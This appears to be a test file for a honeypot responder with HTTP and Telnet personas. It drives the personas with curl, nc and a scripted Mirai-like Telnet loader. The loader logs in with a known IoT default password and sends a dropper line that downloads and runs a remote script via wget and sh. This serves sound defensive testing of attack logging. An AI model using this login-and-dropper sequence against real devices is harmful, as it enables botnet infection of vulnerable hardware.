// HTTP and Telnet personas with real clients: curl (plain, TLS, keep-alive) and a scripted Mirai-like
// Telnet loader that logs in, checks the shell the way bots do, and sends its dropper line.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { isRoot } from '../helpers/testbed.js';
import { sentText, startRespondBed, type RespondBed } from './respond-lib.js';

const skip = isRoot() ? false : 'needs root (network namespaces)';

/** A Mirai-like loader: waits for each prompt as the bot does, then sends the next line. */
const MIRAI = `
const net = require('net');
const s = net.connect(23, process.argv[1]);
let buf = '';
const steps = [
  ['ogin', 'root'], ['assword', 'xc3511'], ['# ', 'enable'], ['# ', 'system'], ['# ', 'shell'], ['# ', 'sh'],
  ['# ', '/bin/busybox ECCHI'], ['applet not found', 'wget http://198.18.0.2/bins.sh; chmod 777 bins.sh; sh bins.sh'],
  ['# ', 'exit'],
];
s.on('data', (d) => {
  buf += d.toString('latin1');
  while (steps.length && buf.includes(steps[0][0])) {
    buf = buf.slice(buf.indexOf(steps[0][0]) + steps[0][0].length);
    s.write(steps.shift()[1] + '\\r\\n');
  }
});
s.on('close', () => { if (steps.length) { console.error('stuck before', steps[0]); process.exit(1); } });
setTimeout(() => { console.error('timeout', steps[0]); process.exit(1); }, 15000).unref();
`;

describe('responder: HTTP and Telnet', { skip }, () => {
  let rb: RespondBed;
  before(async () => {
    rb = await startRespondBed(['--tcp-ports', '23,80,443,8080,20001', '--udp-ports', '']);
  });
  after(async () => rb?.close());

  test('curl gets the 200 page, and the request is recorded', async () => {
    const r = await rb.run('curl', ['-s', '-A', 'probe/1.0', `http://${rb.bed.sensorIp}/`]);
    assert.equal(r.code, 0);
    assert.match(r.stdout, /<html/i);
    const rec = await rb.find(80, (x) => !!x.http);
    assert.equal(rec.persona, 'http');
    assert.deepEqual(rec.http, [
      { method: 'GET', path: '/', host: rb.bed.sensorIp, user_agent: 'probe/1.0' },
    ]);
    assert.match(sentText(rec), /^HTTP\/1\.1 200 OK\r\n/);
    assert.ok(Buffer.from(rec.payloads[0]!.data, 'base64').toString().startsWith('GET / HTTP/1.1'));
  });

  test('curl -k over TLS on any port gets the persona, recorded with the TLS fields', async () => {
    const r = await rb.run('curl', [
      '-sk',
      '-o',
      '/dev/null',
      '-w',
      '%{http_code}',
      `https://${rb.bed.sensorIp}:20001/admin`,
    ]);
    assert.equal(r.stdout, '404');
    const rec = await rb.find(20001, (x) => !!x.http);
    assert.equal(rec.flow.proto, 'tls');
    assert.equal(rec.persona, 'http');
    assert.equal(rec.http![0]!.path, '/admin');
    assert.ok(rec.tls);
  });

  test('three keep-alive requests on one connection make three http entries', async () => {
    const base = `http://${rb.bed.sensorIp}:8080`;
    const r = await rb.run('curl', [
      '-s',
      '-o',
      '/dev/null',
      '-o',
      '/dev/null',
      '-o',
      '/dev/null',
      `${base}/a`,
      `${base}/`,
      `${base}/c`,
      '-w',
      '%{num_connects} ',
    ]);
    assert.equal(r.code, 0);
    assert.equal(
      r.stdout
        .trim()
        .split(/\s+/)
        .map(Number)
        .reduce((a, b) => a + b, 0),
      1,
      'one connection',
    );
    const rec = await rb.find(8080, (x) => (x.http?.length ?? 0) === 3);
    assert.deepEqual(
      rec.http!.map((h) => h.path),
      ['/a', '/', '/c'],
    );
    assert.equal((sentText(rec).match(/^HTTP\/1\.1 /gm) ?? []).length, 3);
  });

  test('a Mirai-like Telnet loader: credentials and every command recorded in order', async () => {
    const r = await rb.run(process.execPath, ['-e', MIRAI, rb.bed.sensorIp]);
    assert.equal(r.code, 0, r.stderr);
    const rec = await rb.find(23, (x) => x.persona === 'telnet');
    assert.deepEqual(rec.credentials, [{ username: 'root', password: 'xc3511' }]);
    assert.deepEqual(rec.commands, [
      'enable',
      'system',
      'shell',
      'sh',
      '/bin/busybox ECCHI',
      'wget http://198.18.0.2/bins.sh; chmod 777 bins.sh; sh bins.sh',
      'exit',
    ]);
    const sent = sentText(rec);
    assert.ok(sent.startsWith('\xff\xfd\x01'), 'option negotiation first');
    assert.match(sent, /login: /);
    assert.match(sent, /ECCHI: applet not found/);
  });

  test('unknown client-first bytes stay silent', async () => {
    const r = await rb.run('nc', ['-N', '-w', '3', rb.bed.sensorIp, '20001'], { input: 'hello there\n' });
    assert.equal(r.stdout, '');
    const rec = await rb.find(
      20001,
      (x) => Buffer.from(x.payloads[0]?.data ?? '', 'base64').toString() === 'hello there\n',
    );
    assert.equal(rec.persona, undefined);
    assert.equal(rec.sent, undefined);
  });
});
